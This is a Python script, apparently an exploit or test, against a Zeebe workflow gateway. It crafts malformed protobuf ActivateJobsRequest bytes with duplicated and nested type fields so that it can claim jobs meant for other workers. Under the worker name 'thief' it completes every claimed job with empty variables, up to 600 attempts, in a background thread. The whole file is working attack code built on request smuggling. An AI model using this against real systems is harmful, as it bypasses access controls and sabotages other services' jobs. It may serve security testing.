"""Asks for jobs by a request in which libraries find different types: its own, and those of other workers. 600 times at most."""

import os
import threading
import time

import grpc
from pyzeebe.proto import gateway_pb2 as pb
from pyzeebe.proto.gateway_pb2_grpc import GatewayStub

channel = grpc.insecure_channel(os.environ["ZEEBE_ADDRESS"])
zeebe = GatewayStub(channel)
poll = channel.unary_stream(
    "/gateway_protocol.Gateway/ActivateJobs",
    response_deserializer=pb.ActivateJobsResponse.FromString,
)


def text(field, value):
    return bytes([field << 3 | 2, len(value)]) + value


def request(theirs):
    # a number that is written as a text: who skips it finds only what stands before, who reads it finds what is in it
    hidden = text(1, b"thumbnails_production")
    rest = pb.ActivateJobsRequest(worker="thief", timeout=60_000, maxJobsToActivate=9, requestTimeout=-1)
    return text(1, theirs) + text(3, hidden) + rest.SerializeToString()


def steal():
    for number in range(600):
        theirs = (b"model_uploading", b"image_enhancement")[number % 2]
        try:
            jobs = [job for answer in poll(request(theirs)) for job in answer.jobs]
            for job in jobs:
                zeebe.CompleteJob(pb.CompleteJobRequest(jobKey=job.key, variables="{}"))
                print("it was let through")
        except grpc.RpcError as error:
            print(error.code())
            return
        time.sleep(0.005)


threading.Thread(target=steal, daemon=True).start()
